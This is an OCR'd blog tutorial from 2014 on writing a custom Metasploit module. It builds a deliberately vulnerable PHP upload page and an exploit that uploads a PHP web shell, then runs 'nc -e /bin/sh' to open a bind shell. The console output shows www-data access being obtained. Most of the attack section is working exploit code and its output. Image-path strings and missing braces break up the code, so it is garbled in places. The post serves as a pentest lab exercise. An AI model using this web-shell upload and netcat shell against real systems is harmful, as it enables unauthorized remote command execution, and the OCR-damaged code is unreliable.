Tuesday, 30 December 2014

[EN] Your own modules for Metasploit

Sometimes during penetration tests we are using tools like Metasploit.
Last time I had a moment to check this more carefully.

I was wondering how can I automate exploitation process of vulnerabilities found in the past. One idea was to use MSF.

After docs:
to start using 'your own modules' (or external), you need to prepare your system a little bit.
I was using kali-1.0.7 with vmplayer. There I was using apache2 + PHP.

First of all we will create a vulnerable webapplication. This simple bug will be related to "upload vulnerability" (so our MSF module should upload webshell to target host).

Let's create 2 directories:
mkdir /var/www/upload
mkdir /var/www/upload/foto

Next, we need to change permissions of our 'foto' directory, to 777.
Next step will be creating an upload.php file in '/upload/' direcory.
(Code is borrowed from one tutorial found somewhere on the internet).

root@kali:/var/www/upload# cat upload.php$max_rozmiar = 1024*1024;
if (is_uploaded_file($_FILES['plik']['tmp_name'])) {
    if ($_FILES['plik']['size'] > $max_rozmiar) {
        echo 'Blad! Plikjest za duzy!';
    } else {
        echo 'Odebrano plik. Poczatkoowa nazwa: '.$_FILES['plik']['name'];
        echo '<br/>';
        if (isset($_FILES['plik']['type'])) {
            echo 'Typ: '.$_FILES['plik']['type'].'<br/>';
} else {
   echo 'Blad przy przesylaniu danych!';

When we have all (vulnerable) files (and dirs) prepared, we can start configuring our 'msf environment'. Let's back to the docs:

---<doc>---*  Mirror the "real" Metasploit module paths
mkdir -p $HOME/.msf4/modules/exploit

*  Create an appropriate category # for our example we don't need it now ;)
mkdir -p $HOME/.msf4/modules/exploits/windows/fileformat

*  Create the module
...# we will get to it ;)*  Test it all out
mkdir -p $HOME/.msf4/modules/exploits/test
curl -Lo ~/.msf4/modules/exploits/test/test_module.rb http://yours/test_module.rb

* reload msf
msf > reload_all

* use your code
msf > use exploit/test/test_module
msf exploit(test_module) > infoNow, when our local OS is prepared and ready to use, we can move on to creating our simple module:


# This module requires Metasploit: http//metasploit.com/download
# Current source: https://github.com/rapid7/metasploit-framework

require 'msf/core'

class Metasploit3 < Msf::Exploit::Remote
  Rank = ExcellentRanking

  include Msf::HTTP::Wordpress
  include Msf::Exploit::FileDropper

  definitialize(info = {})
      'Name'           => 'Super cool shell upload',
      'Description'    => %q{
                This is super cool module for Metasploit to check if you can upload shell on target.
      'Author'         =>
          'HauntIT Blog'     # metasploit module
      'License'        => MSF_LICENSE,
      'References'     =>[ 'URL', 'http://HauntIT.blogspot.com']
      'Privileged'     => false,
      'Platform'       => ['php'],
      'Arch'           => ARCH_PHP,
      'Targets'        => [ ['Any vulnerable upload ', {}] ],
      'DefaultTarget'  => 0,
      'DisclosureDate' => '28/12/2014'))

  def check
    readurl = normalize_uri(target_uri.path, 'upload','upload.php')
    res = send_request_cgi({
      'uri'    => readurl,
      'method' => 'GET'

    if res.code != 200return Msf::Exploit::CheckCode::Unknown

    return Msf::Exploit::CheckCode::Safe

  def exploit
    payload_name = "#{rand_text_alpha(10)}.php"

    shell = "<?php echo '<pre>';$c=$_GET['c'];shell_exec($c);?>"

    uri = normalize_uri(target_uri.path,'upload','upload.php')

    data = Rex::MIME::Message.new
    data.add_part(shell, 'application/octet-stream', 'binary', "form-data; name=\"plik\"; filename=\"#{payload_name}\"")

    post_data = data.to_s

    payload_uri = normalize_uri(target_uri.path, 'upload','foto', payload_name)

    print_status("#{peer} - Uploading payload to #{payload_uri}")
    res = send_request_cgi({
      'method'   => 'POST',
      'uri'      => uri,
      'ctype'    => "multipart/form-data; boundary=#{data.bound}",'vars_post' => { 'plik' => '#{payload_name}' },
      'data'     => post_data

    if res.code != 200 || res.body =~ /Blad/
      fail_with(Failure::UnexpectedReply, "#{peer} - Upload failed")
      print_status("Got shell ;>")

    print_status("#{peer} - Executing payload #{payload_uri}")
    res = send_request_cgi({
      'uri'    => payload_uri,
      'method' => 'GET',
      'vars_get' => {'c' => 'id;nc -lvvp 4445 -e /bin/sh &'}


(Pastebin version is here.)

Now it's time to step "Test it all out", so let's upload our new module to ~/.msf4 directory and type reload_all in msfconsole. To get to our module, weneed to type:

msf>  use exploit/test/upload_check


Exploitation should be:

msf exploit(upload_check) > exploit
[*] Started reverse handler on
[*] - Uploading payload to /upload/foto/UXpCFrWwkW.php
[*] Got shell ;>
[*] - Executing payload /upload/foto/UXpCFrWwkW.php

 Now in second console, we will connect to attacked host:

root@kali:/var/www/upload# netstat -antp | grep 444
tcp        0      0  *               LISTEN      21563/nc
root@kali:/var/www/upload# telnet 4445
Connected to
Escape character is '^]'.
uid=33(www-data) gid=33(www-data) groups=33(www-data)

And that's all. ;)

Questions / ideas / comments?

Good luck with creating your ownmodules!


  1. you could just use shell = payload.encoded instead of using a hardcoded PHP shell.

    Jay TurlaWhat do You think...?